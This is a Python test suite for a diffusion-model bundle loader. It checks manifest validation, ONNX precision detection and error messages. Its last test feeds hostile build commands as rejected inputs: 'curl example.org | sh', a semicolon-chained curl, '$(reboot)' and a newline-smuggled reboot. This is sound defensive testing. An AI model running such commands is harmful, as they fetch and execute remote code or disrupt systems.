"""Any manifest opens or is refused in one line, and what it says contradicts neither itself nor its graphs."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from generated import changed, damaged
from hypothesis import given
from hypothesis import strategies as st
from tiny_checkpoints import SCHEDULER, save_tokenizer

from pie_engine.config import COMPONENTS
from pie_engine.errors import BundleError
from pie_engine.model.bundle import MANIFEST, manifest_hash, open_bundle, write_manifest
from pie_engine.model.graph_types import graph_precision

# An ONNX model whose graph holds one weight, in single or half precision: field 7 { field 5 { field 2: type } }.
GRAPHS = {"fp32": b"\x3a\x04\x2a\x02\x10\x01", "fp16": b"\x3a\x04\x2a\x02\x10\x0a"}
ENGINE = {
    "component": "unet", "file": "engines/tensorrt/unet.plan", "flavour": "tensorrt", "version": "11.4.0",
    "gpu": "A5000", "capabilities": ["8.6"], "driver_floor": "13.0", "resolutions": [512], "batches": [1],
    "weights": "fixed", "weights_hash": "1" * 64, "optimisation_level": None, "workspace": None, "precision": "fp32",
    "profiles": [{"sample": [[2, 4, 64, 64]] * 3}], "attention": {"graph": 8, "fused": None}, "relative_error": 1e-6,
    "bytes": 4, "seconds": 1.0, "host_memory_bytes": None,
}  # fmt: skip
FACTS: dict[str, Any] = {
    "precision": "fp32",
    "opset": 20,
    "model": {
        "scheduler_config": SCHEDULER, "scaling_factor": 0.18215, "latent_channels": 4, "text_width": 64,
        "max_tokens": 77, "vae_scale": 8, "resolution_multiple": 16, "default_resolution": 64,
    },
    "architecture": {
        "unet": {"block_out_channels": [32, 64], "cross_attention_dim": 64},
        "vae": {"block_out_channels": [32, 32, 32, 32], "latent_channels": 4, "scaling_factor": 0.18215},
        "text_encoder": {"vocab_size": 55, "max_position_embeddings": 77},
    },
    "hashes": dict.fromkeys(("unet", "vae", "text_encoder", "tokenizer"), "1" * 64),
    "sources": {"unet": "somewhere"},
    "components": {name: {"precision": "fp32", "relative_error": 1e-6, "tolerance": 1e-4} for name in COMPONENTS},
    "engines": [ENGINE],
    "versions": {"torch": "2.13.0"},
    "build_command": "pie-engine build --checkpoint a",
}  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle that opens, though its graphs hold nothing to run."""
    folder = tmp_path_factory.mktemp("any") / "any.pie"
    for name in COMPONENTS:
        (folder / name).mkdir(parents=True)
        (folder / name / "model.onnx").write_bytes(GRAPHS["fp32"])
    save_tokenizer(folder / "tokenizer")
    (folder / ENGINE["file"]).parent.mkdir(parents=True)
    (folder / ENGINE["file"]).write_bytes(b"plan")
    write_manifest(folder, FACTS)
    return folder


def rewrite(folder: Path, manifest: dict[str, Any]) -> None:
    """Hash a manifest anew, as whoever forges one does, and write it."""
    (folder / MANIFEST).write_text(json.dumps({**manifest, "manifest_sha256": manifest_hash(manifest)}))


def complete(folder: Path) -> dict[str, Any]:
    write_manifest(folder, FACTS)
    return json.loads((folder / MANIFEST).read_text())


@given(data=st.data())
def test_any_manifest(folder: Path, data: st.DataObject) -> None:
    rewrite(folder, data.draw(changed(complete(folder))))
    try:
        model = open_bundle(folder, verify=data.draw(st.booleans())).model
    except BundleError as error:
        assert "\n" not in str(error) and len(str(error)) < 6000
        return
    assert 0 < model.scaling_factor <= 1e6 and model.resolution_multiple % model.vae_scale == 0


@given(content=damaged(b"\x08\x0a\x12\x01x" + GRAPHS["fp16"]) | st.binary(max_size=64))
def test_any_graph(tmp_path_factory: pytest.TempPathFactory, content: bytes) -> None:
    path = tmp_path_factory.getbasetemp() / "any.onnx"
    path.write_bytes(content)
    try:
        assert graph_precision(path) in GRAPHS
    except ValueError as error:
        assert str(error)


def at(*path: Any, value: Any) -> Callable[[dict[str, Any]], None]:
    def apply(manifest: dict[str, Any]) -> None:
        for key in path[:-1]:
            manifest = manifest[key]
        manifest[path[-1]] = value

    return apply


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (at("model", "scheduler_config", "num_train_timesteps", value=10**9), "num_train_timesteps is 1000000000"),
        (at("model", "resolution_multiple", value=-64), "model.resolution_multiple is -64, should be greater"),
        (at("model", "resolution_multiple", value=24), "resolution_multiple 24 is not vae_scale 8 times a power"),
        (at("model", "resolution_multiple", value=64), "model.resolution_multiple is 64, its architecture's is 16"),
        (at("model", "scaling_factor", value=-0.5), "model.scaling_factor is -0.5, should be greater than 0"),
        (at("model", "scaling_factor", value=0.5), "model.scaling_factor is 0.5, its architecture's is 0.18215"),
        (at("model", "scaling_factor", value=float("nan")), "model.scaling_factor is nan, should be a finite number"),
        (at("model", "scaling_factor", value=float("inf")), "model.scaling_factor is inf, should be a finite number"),
        (at("model", "max_tokens", value=10**9), "model.max_tokens is 1000000000, should be less"),
        (at("model", "vae_scale", value=10**6), "model.vae_scale is 1000000, should be"),
        (at("hashes", "unet", value=""), "hashes.unet is '', String should match"),
        (at("hashes", value={}), "hashes.unet is missing"),
        (at("architecture", "unet", "layers_per_block", value=10**5), "unet.layers_per_block is 100000, should"),
        (at("architecture", "text_encoder", "vocab_size", value=20), "token id 54 but the text encoder has 20"),
        (at("components", "vae_decoder", "precision", value="fp16"), "vae_decoder/model.onnx in fp32 where its"),
        (at("precision", value="fp16"), "a U-Net in fp32 where its manifest.json says fp16"),
        (at("engines", 0, "batches", value=[10**9]), "engines.0.batches.0 is 1000000000, should be less"),
        (at("engines", 0, "driver_floor", value="new"), "engines.0.driver_floor is 'new', String should match"),
        (at("colour", value="red"), "colour is unknown"),
        (at("deep", value=json.loads("[" * 70 + "]" * 70)), "nested deeper than 64 levels"),
    ],
)  # fmt: skip
def test_what_used_to_run(folder: Path, change: Callable[[dict[str, Any]], None], line: str) -> None:
    manifest = complete(folder)
    change(manifest)
    rewrite(folder, manifest)
    with pytest.raises(BundleError) as caught:
        open_bundle(folder)
    assert line in str(caught.value)


def test_a_manifest_that_says_what_its_graphs_are(folder: Path) -> None:
    manifest = complete(folder)
    rewrite(folder, manifest)
    assert open_bundle(folder).precision == "fp32"
    assert graph_precision(folder / "unet" / "model.onnx") == "fp32"
    half = folder.parent / "half.onnx"
    half.write_bytes(GRAPHS["fp16"])
    assert graph_precision(half) == "fp16"


def test_what_no_library_knows_is_dropped(folder: Path) -> None:
    manifest = complete(folder)
    manifest["architecture"]["text_encoder"]["_attn_implementation"] = "stranger/kernel"
    manifest["model"]["scheduler_config"]["solver_p"] = {"_class_name": "x"}
    rewrite(folder, manifest)
    bundle = open_bundle(folder)
    assert "_attn_implementation" not in bundle.manifest["architecture"]["text_encoder"]
    assert bundle.model.scheduler_config == SCHEDULER


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        ("pie-engine build --checkpoint 'a b' --output x", True),
        ("curl example.org | sh", False),
        ("pie-engine build; curl example.org", False),
        ("pie-engine build --checkpoint $(reboot)", False),
        ("pie-engine build\nreboot", False),
    ],
)
def test_a_command_to_run_is_one_of_ours(folder: Path, command: str, kept: bool) -> None:
    """The line that refuses a bundle tells users what to run: a stranger's bundle must not choose that."""
    manifest = copy.deepcopy(complete(folder)) | {"build_command": command}
    rewrite(folder, manifest)
    assert (open_bundle(folder).build_command() == command) is kept
    rewrite(folder, manifest | {"colour": "red"})
    with pytest.raises(BundleError) as caught:
        open_bundle(folder)
    assert (command in str(caught.value)) is kept
